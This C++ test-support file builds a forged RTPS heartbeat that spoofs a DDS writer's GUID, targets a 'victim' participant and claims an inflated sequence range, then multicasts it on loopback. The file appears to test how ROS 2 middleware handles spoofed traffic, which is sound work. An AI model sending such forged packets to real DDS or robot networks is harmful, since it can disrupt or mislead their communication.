#include "tests/support/ros2/forged_heartbeat.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <cerrno>

#include "absl/strings/str_cat.h"
#include "services/runtime/unique_fd.h"

namespace rips::dds {
namespace {

constexpr size_t kPrefixBytes = 12;
constexpr char kInfoDst = 0x0e;
constexpr char kHeartbeat = 0x07;
constexpr char kLittleEndian = 0x01;
constexpr char kFinal = 0x02;  // no answer is asked for
constexpr uint64_t kFirst = uint64_t{1} << 40;
constexpr uint32_t kCount = 0x4000'0000;  // above that of any true heartbeat

void AppendU32(std::string& out, uint64_t value) {
  for (int shift = 0; shift < 32; shift += 8) out.push_back(static_cast<char>(value >> shift));
}

}  // namespace

std::string ForgedHeartbeat(const ros2::Guid& writer, const ros2::Guid& victim) {
  const std::string from = writer.ToBytes();
  std::string datagram = absl::StrCat("RTPS", absl::string_view("\x02\x01\x01\x10", 4),
                                      absl::string_view(from).substr(0, kPrefixBytes));
  datagram += {kInfoDst, kLittleEndian, kPrefixBytes, 0};
  absl::StrAppend(&datagram, absl::string_view(victim.ToBytes()).substr(0, kPrefixBytes));
  datagram += {kHeartbeat, kLittleEndian | kFinal, 28, 0};
  AppendU32(datagram, 0);  // to all readers
  absl::StrAppend(&datagram, absl::string_view(from).substr(kPrefixBytes));
  for (int i = 0; i < 2; ++i) {  // first and last
    AppendU32(datagram, kFirst >> 32);
    AppendU32(datagram, kFirst);
  }
  AppendU32(datagram, kCount);
  return datagram;
}

absl::Status SendToDomain(uint32_t domain, absl::string_view datagram) {
  const UniqueFd fd(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  in_addr loopback = {};
  loopback.s_addr = htonl(INADDR_LOOPBACK);
  sockaddr_in to = {};
  to.sin_family = AF_INET;
  to.sin_port = htons(static_cast<uint16_t>(7400 + 250 * domain + 1));
  to.sin_addr.s_addr = inet_addr("239.255.0.1");
  if (setsockopt(fd.get(), IPPROTO_IP, IP_MULTICAST_IF, &loopback, sizeof(loopback)) != 0 ||
      sendto(fd.get(), datagram.data(), datagram.size(), 0, reinterpret_cast<sockaddr*>(&to),
             sizeof(to)) < 0) {
    return absl::ErrnoToStatus(errno, "sending to a domain");
  }
  return absl::OkStatus();
}

}  // namespace rips::dds
